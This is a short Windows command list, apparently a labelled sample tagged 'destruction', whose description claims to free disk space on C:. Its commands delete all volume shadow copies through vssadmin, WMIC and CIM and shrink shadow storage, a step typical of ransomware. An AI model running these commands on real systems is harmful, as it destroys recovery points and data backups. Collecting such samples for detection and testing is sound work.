# description: Frees space on C: by deleting all volume shadow copies through vssadmin, WMIC and CIM.
# family: destruction
vssadmin list shadowstorage
vssadmin delete shadows /all /quiet
wmic shadowcopy delete /nointeractive
Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance
vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB
Get-PSDrive C
